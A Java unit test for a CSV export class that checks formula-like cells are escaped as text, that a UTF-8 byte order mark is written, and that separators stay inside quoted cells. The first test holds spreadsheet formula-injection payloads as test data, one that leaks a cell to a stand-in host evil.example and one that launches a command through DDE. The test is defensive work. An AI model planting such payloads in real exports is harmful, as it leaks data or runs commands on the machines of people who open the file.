package fr.rempart.platform.csv;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Cells a spreadsheet would run as formulas come out as text; the accents survive Excel (BOM); the separator cannot split a cell. */
class CsvExportTest {

    private static byte[] export(String[]... rows) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvExport csv = CsvExport.to(out);
        for (String[] row : rows) {
            csv.row(row);
        }
        csv.flush();
        return out.toByteArray();
    }

    private static List<CsvRecord> read(byte[] bytes) throws Exception {
        try (CsvReader<CsvRecord> csv = CsvReader.builder().fieldSeparator(';').detectBomHeader(true)
                .ofCsvRecord(new java.io.ByteArrayInputStream(bytes), StandardCharsets.UTF_8)) {
            return csv.stream().toList();
        }
    }

    @Test
    void aFormulaPlantedInAMembersFieldComesOutAsText() throws Exception {
        byte[] bytes = export(new String[]{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", "+33 6 00", "-2+3+cmd|' /C calc'!A0",
                "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Lefèvre-Dupont", "", null});
        assertThat(read(bytes).get(0).getFields()).containsExactly("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")", "'+33 6 00",
                "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1", "Lefèvre-Dupont", "", "");
    }

    @Test
    void theAccentsSurviveASpreadsheetBecauseTheFileStartsWithTheUtf8ByteOrderMark() throws Exception {
        byte[] bytes = export(new String[]{"nom", "prenom"}, new String[]{"Lefèvre-Dupont", "Hélène"});
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8)).isEqualTo("nom;prenom\r\nLefèvre-Dupont;Hélène\r\n");
    }

    @Test
    void aSeparatorQuoteOrLineBreakInsideACellStaysInThatCell() throws Exception {
        byte[] bytes = export(new String[]{"a;b", "dit \"non\"", "ligne 1\nligne 2", "x"});
        List<CsvRecord> rows = read(bytes);
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).getFields()).containsExactly("a;b", "dit \"non\"", "ligne 1\nligne 2", "x");
    }

    @Test
    void aWriterGetsTheSameByteOrderMark() throws Exception {
        java.io.StringWriter text = new java.io.StringWriter();
        CsvExport.to(text).row("line", "code").flush();
        assertThat(text.toString()).isEqualTo("\uFEFFline;code\r\n");
    }
}
